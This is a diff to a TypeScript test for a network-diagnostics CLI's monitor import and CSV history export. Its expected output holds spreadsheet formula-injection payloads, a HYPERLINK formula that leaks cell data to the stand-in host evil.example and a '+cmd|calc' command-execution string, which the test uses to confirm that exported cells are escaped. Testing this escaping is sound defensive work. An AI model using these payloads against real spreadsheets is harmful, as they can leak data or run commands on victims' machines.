@@ -27,6 +27,9 @@ const FULL: SharedResult = { at: daysAgo(3), mode: 'full', downloadBps: 91_400_0
 const LIGHT: SharedResult = { at: daysAgo(2), mode: 'light', downloadBps: 40_000_000, latencyMs: 20 };
 const WATCH = { at: daysAgo(1), interval_s: 5, duration_s: 60, targets: [{ target: 'server', label: 'server', median_ms: 10, p95_ms: 12, jitter_ms: 1, polls: 12, failed: 0, refused: 0 }] };
 
+/** Import reads the whole configuration, whose check runs each second for the monitor started below. */
+const EVERY_SECOND = { NETDIAG_MONITOR_MIN_INTERVAL: '1s' };
+
 describe("netdiag monitor import and export: the page's history file", () => {
   it('imports a page file once, exports it with a run of its own, and the page reads the export back as the same results', async () => {
     const server = await startTestServer({ NETDIAG_EVENTS_SINK: 'none', NETDIAG_RATE_LIMITS: 'speedtest=100000,ip=100000', ...LOOPBACK_TRANSFERS });
@@ -37,10 +40,10 @@ describe("netdiag monitor import and export: the page's history file", () => {
     const original = parseHistoryFile(historyFileJson([FULL, LIGHT]));
     if (!original.ok) throw new Error(original.reason);
 
-    const first = await runCli(['monitor', 'import', pageFile, '--config', config]);
+    const first = await runCli(['monitor', 'import', pageFile, '--config', config], EVERY_SECOND);
     expect(first.stderr).toBe(`netdiag monitor: 2 results of ${pageFile} imported as runs of "page" on page; its 1 watch summary left out (the monitor keeps no watches)\n`);
     expect(first.code).toBe(0);
-    const again = await runCli(['monitor', 'import', pageFile, '--config', config]);
+    const again = await runCli(['monitor', 'import', pageFile, '--config', config], EVERY_SECOND);
     expect(again.stderr).toBe(`netdiag monitor: 0 results of ${pageFile} imported as runs of "page" on page; 2 already there; its 1 watch summary left out (the monitor keeps no watches)\n`);
 
     // One speed test of the monitor's own.
@@ -112,9 +115,9 @@ describe("netdiag monitor import and export: the page's history file", () => {
     const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
     expect(listed.code).toBe(0);
     const [header, first, second] = listed.stdout.trimEnd().split('\n');
-    expect(header).toBe('started_at,check,server,ok,error,breaches,figures');
+    expect(header).toBe('started_at,check,server,outcome,ok,error,breaches,figures');
     // RFC 4180 cells, each text one that would start a formula led by an apostrophe.
-    expect(first?.split(',').slice(3).join(',')).toBe(`false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{}`);
-    expect(second?.split(',').slice(3).join(',')).toBe(`true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}"`);
+    expect(first?.split(',').slice(3).join(',')).toBe(`failed,false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{}`);
+    expect(second?.split(',').slice(3).join(',')).toBe(`ok,true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}"`);
   });
 });
